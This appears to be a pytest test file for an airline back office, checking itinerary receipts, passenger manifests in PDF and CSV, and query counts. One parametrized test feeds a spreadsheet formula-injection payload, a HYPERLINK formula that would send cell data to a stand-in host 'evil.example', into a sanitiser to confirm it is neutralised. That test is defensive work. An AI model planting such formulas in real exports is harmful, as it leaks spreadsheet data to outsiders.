import csv
import datetime as dt
import io
import re
from decimal import Decimal

import pypdf
import pytest
from django.utils import timezone

from backoffice.csv_safety import csv_rows, safe_cell
from fleet.models import Flight
from fleet.timezones import local_to_utc
from sales import services
from sales.documents import itinerary_receipt_pdf, passenger_manifest_csv, passenger_manifest_pdf
from sales.models import Passenger, Ticket
from sales.services import PassengerRequest as P
from sales.services import SegmentRequest
from tests.factories import AirportFactory, CityFactory, FareBucketFactory, FareClassFactory, FlightFactory, TaxFactory
from tests.sales.conftest import CONTACT

pytestmark = pytest.mark.django_db

# The booking reads in a fixed number of queries (booking_page, without the refunds: a receipt shows none), the
# manifest in two.
RECEIPT_QUERIES = 5
MANIFEST_QUERIES = 2


def pdf_text(data):
    reader = pypdf.PdfReader(io.BytesIO(data))
    return "\n".join(page.extract_text() for page in reader.pages), len(reader.pages)


def flat(text):
    return " ".join(text.split())


@pytest.fixture
def trip(db):
    """Paris to Reunion and back, in January (Paris on CET), with a tax on each departure."""
    out_day = dt.date(timezone.localdate().year + 1, 1, 15)
    back_day = out_day + dt.timedelta(days=7)
    cdg = AirportFactory(code="CDG", name="Paris Charles de Gaulle", time_zone="Europe/Paris")
    run = AirportFactory(
        code="RUN",
        name="Roland Garros",
        time_zone="Indian/Reunion",
        city=CityFactory(code="RUN", name="Saint-Denis", country="RE"),
    )
    # 22:00 CET, 11 h in the air: lands at 12:00 +04 the next local day.
    out_departure = local_to_utc(out_day, dt.time(22, 0), "Europe/Paris")
    outbound = FlightFactory(
        number=976,
        flight_date=out_day,
        origin=cdg,
        destination=run,
        scheduled_departure=out_departure,
        scheduled_arrival=out_departure + dt.timedelta(hours=11),
        capacity=180,
    )
    back_departure = local_to_utc(back_day, dt.time(10, 0), "Indian/Reunion")
    inbound = FlightFactory(
        number=977,
        flight_date=back_day,
        origin=run,
        destination=cdg,
        scheduled_departure=back_departure,
        scheduled_arrival=back_departure + dt.timedelta(hours=11, minutes=30),
        capacity=180,
    )
    TaxFactory(code="FR", name="Civil aviation tax", amount=Decimal("4.63"), departure_country="FR")
    TaxFactory(
        code="RE", name="Reunion airport charge", amount=Decimal("12.50"), departure_country="", departure_airport=run
    )
    economy = FareClassFactory(code="Y")
    return {
        "out_day": out_day,
        "back_day": back_day,
        "outbound": outbound,
        "inbound": inbound,
        "buckets": [
            FareBucketFactory(flight=outbound, fare_class=economy, price=Decimal("400.00")),
            FareBucketFactory(flight=inbound, fare_class=economy, price=Decimal("380.00")),
        ],
    }


@pytest.fixture
def book_trip(trip, counter_user):
    def book(passengers, *, pay=True, buckets=None):
        booking = services.book(
            segments=[SegmentRequest(b.flight_id, b.fare_class.code) for b in buckets or trip["buckets"]],
            passengers=passengers,
            agent=counter_user,
            **CONTACT,
        )
        if pay:
            services.take_payment(
                booking=booking, amount=booking.total_amount, method="card", reference="AUTH 4411", agent=counter_user
            )
            services.issue_tickets(booking=booking, agent=counter_user)
        booking.refresh_from_db()
        return booking

    return book


FAMILY = [
    P("Martin", "Anne", "MS"),
    P("Durand", "Paul", "MR"),
    # The infant's surname sorts first: the manifest still prints her under her adult.
    P("Abel", "Zoé", "MISS", Passenger.Type.INFANT, infant_of=1),
]


def test_itinerary_receipt_shows_what_the_passenger_bought(trip, book_trip, counter_user):
    booking = book_trip(FAMILY)
    # 2 x (400 + 4.63 + 380 + 12.50) + infant 40 + 38, no taxes.
    assert booking.total_amount == Decimal("1672.26")
    text, pages = pdf_text(itinerary_receipt_pdf(booking, printed_by=counter_user))
    words = flat(text)

    assert pages == 1 and "page 1 of 1" in words
    assert "Axis Blue" in words and "XB" in words
    assert booking.record_locator in words and "Status TICKETED" in words
    assert "anne@example.com" in words and "+33 1 23 45 67 89" in words
    for name in ("MARTIN/ANNE MS", "DURAND/PAUL MR", "ABEL/ZOE MISS"):
        assert name in words
    assert "on the lap of 1. MARTIN/ANNE MS" in words
    numbers = list(Ticket.objects.filter(booking=booking).values_list("number", flat=True))
    assert len(numbers) == 6 and all(number in words for number in numbers)

    # Each time in its airport's zone; the outbound lands the next local day.
    out_day, back_day = trip["out_day"], trip["back_day"]
    assert f"{out_day:%a %d %b %Y} 22:00 CET" in words
    assert f"{out_day + dt.timedelta(days=1):%a %d %b %Y} 12:00 +04" in words
    assert f"{back_day:%a %d %b %Y} 10:00 +04" in words
    assert f"{back_day:%a %d %b %Y} 18:30 CET" in words
    assert "Paris Charles de Gaulle" in words and "Roland Garros" in words

    # Fares, each tax line, ticket and booking totals, payments.
    for amount in ("400.00", "380.00", "40.00", "38.00", "404.63", "392.50"):
        assert amount in words
    assert "FR Civil aviation tax 4.63" in words and "RE Reunion airport charge 12.50" in words
    assert "Booking total 1,672.26 EUR" in words
    assert "Paid 1,672.26 EUR" in words and "Balance due 0.00 EUR" in words
    assert "Card AUTH 4411 carl 1,672.26" in words
    assert re.search(r"Printed \w{3} \d\d \w{3} \d{4} \d\d:\d\d CES?T \(Europe/Paris\) by carl", words)


def test_a_held_booking_shows_tickets_not_issued_and_the_balance_due(trip, book_trip, counter_user):
    booking = book_trip([P("Martin", "Anne", "MS")], pay=False)
    services.cancel_ticket(ticket=booking.tickets.get(flight=trip["inbound"]), agent=counter_user)
    words = flat(pdf_text(itinerary_receipt_pdf(booking))[0])
    assert "Status HELD" in words and "Held until" in words
    assert not re.search(r"\b\d{13}\b", words)  # no ticket number yet
    assert "not issued Held (not issued)" in words and "not issued Cancelled before issue" in words
    # 404.63 outbound; the cancelled return (392.50) is no longer owed.
    assert "Booking total 404.63 EUR Paid 0.00 EUR Balance due 404.63 EUR" in words
    assert "No payment received." in words
    assert "Printed" in words and "(Europe/Paris) by" not in words


def test_manifest_lists_who_holds_a_seat_by_surname_with_infants_under_their_adult(trip, book_trip, counter_user):
    family = book_trip(FAMILY)
    unpaid = book_trip([P("Petit", "Louis", "MR")], pay=False)
    gone = book_trip([P("Blanc", "Eric", "MR")], pay=False)
    services.cancel_booking(booking=gone, agent=counter_user)
    flight = trip["outbound"]
    flight.refresh_from_db()
    assert flight.seats_sold == 3

    text, pages = pdf_text(passenger_manifest_pdf(flight, printed_by=counter_user))
    words = flat(text)
    assert pages == 1 and "page 1 of 1" in words
    assert "XB 976" in words and f"{trip['out_day']:%a %d %b %Y}" in words
    assert "CDG Paris Charles de Gaulle" in words and "RUN Roland Garros" in words
    assert "22:00 CET" in words and "12:00 +04" in words
    assert "320 Airbus A320" in words and "180 seats" in words and "Seats sold 3 (177 left)" in words

    assert "BLANC" not in words
    order = [words.index(name) for name in ("DURAND/PAUL MR", "MARTIN/ANNE MS", "ABEL/ZOE MISS", "PETIT/LOUIS MR")]
    assert order == sorted(order)
    assert (
        f"MARTIN/ANNE MS ADT {family.record_locator}" in words and f"ABEL/ZOE MISS INF {family.record_locator}" in words
    )
    assert f"PETIT/LOUIS MR ADT {unpaid.record_locator} not issued Y Held (not issued)" in words
    anne = Ticket.objects.get(flight=flight, passenger__surname="MARTIN")
    assert f"MARTIN/ANNE MS ADT {family.record_locator} {anne.number} Y Open" in words

    assert "ADT Adult (12+) 3" in words and "CHD Child (2-11) 0" in words and "INF Infant" in words
    assert "Seats taken (infants on a lap take none) 3" in words
    assert "Held (not issued) 1" in words and "Open 3" in words and "No-show 0" in words
    assert "by carl" in words


def test_manifest_csv_has_a_header_and_one_row_per_ticket(trip, book_trip, counter_user):
    family = book_trip(FAMILY)
    gone = book_trip([P("Blanc", "Eric", "MR")], pay=False)
    services.cancel_booking(booking=gone, agent=counter_user)

    lines = list(passenger_manifest_csv(trip["inbound"]))
    assert all(line.endswith("\r\n") for line in lines)
    rows = list(csv.reader(io.StringIO("".join(lines))))
    assert rows[0] == ["No.", "Passenger", "Type", "On lap of", "Record locator", "Ticket", "Class", "Status"]
    assert [row[1] for row in rows[1:]] == ["DURAND/PAUL MR", "MARTIN/ANNE MS", "ABEL/ZOE MISS"]
    numbers = set(Ticket.objects.filter(flight=trip["inbound"], booking=family).values_list("number", flat=True))
    assert {row[5] for row in rows[1:]} == numbers
    assert rows[3] == ["3", "ABEL/ZOE MISS", "INF", "MARTIN/ANNE MS", family.record_locator, rows[3][5], "Y", "Open"]


@pytest.mark.parametrize(
    "value, cell",
    [
        ('=HYPERLINK("http://evil.example/?x="&A1,"Click")', '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")'),
        ("+1", "'+1"),
        ("-2", "'-2"),
        ("@x", "'@x"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("MARTIN/ANNE MS", "MARTIN/ANNE MS"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (Decimal("-2.50"), "-2.50"),
        (-3, "-3"),
    ],
)
def test_safe_cell_neutralises_what_a_spreadsheet_would_run(value, cell):
    assert safe_cell(value) == cell


def test_csv_rows_quote_and_neutralise_every_cell():
    lines = list(csv_rows([["name", "amount"], ['=1+2, "quoted"', Decimal("-5.00")], ["two\nlines", None]]))
    assert lines == ["name,amount\r\n", '"\'=1+2, ""quoted""",-5.00\r\n', '"two\nlines",\r\n']


@pytest.mark.parametrize("passengers", [1, 5])
def test_documents_cost_the_same_queries_whatever_the_passenger_count(
    trip, book_trip, counter_user, passengers, django_assert_num_queries
):
    people = [P(f"Martin{'x' * i}", "Anne", "MS") for i in range(passengers)]
    people.append(P("Martin", "Zoe", "MISS", Passenger.Type.INFANT, infant_of=1))
    booking = book_trip(people)
    book_trip([P("Petit", "Louis", "MR")], pay=False)

    with django_assert_num_queries(RECEIPT_QUERIES):
        itinerary_receipt_pdf(booking, printed_by=counter_user)
    with django_assert_num_queries(MANIFEST_QUERIES):
        passenger_manifest_pdf(trip["outbound"], printed_by=counter_user)
    with django_assert_num_queries(MANIFEST_QUERIES):
        lines = list(passenger_manifest_csv(trip["outbound"]))
    assert len(lines) == 1 + passengers + 2


def test_a_long_flight_designator_does_not_run_into_the_ticket_number(trip, book_trip, counter_user):
    # Four-digit numbers with a suffix, and a second leg: the longest designators a ticket line prints.
    Flight.objects.filter(pk=trip["outbound"].pk).update(number=1001, suffix="A")
    Flight.objects.filter(pk=trip["inbound"].pk).update(number=1002, leg_number=2)
    booking = book_trip(FAMILY)
    text = pdf_text(itinerary_receipt_pdf(booking, printed_by=counter_user))[0]
    for number in Ticket.objects.filter(booking=booking).values_list("number", flat=True):
        # The number stands on its own: not glued to the date before it ("15 Jan9520000000035").
        assert re.search(rf"(^|\s){number}(\s|$)", text), number
    assert "XB 1001A" in text and "XB 1002" in text
    assert f"CDG-RUN {trip['out_day']:%d %b}" in text and f"RUN-CDG {trip['back_day']:%d %b}" in text
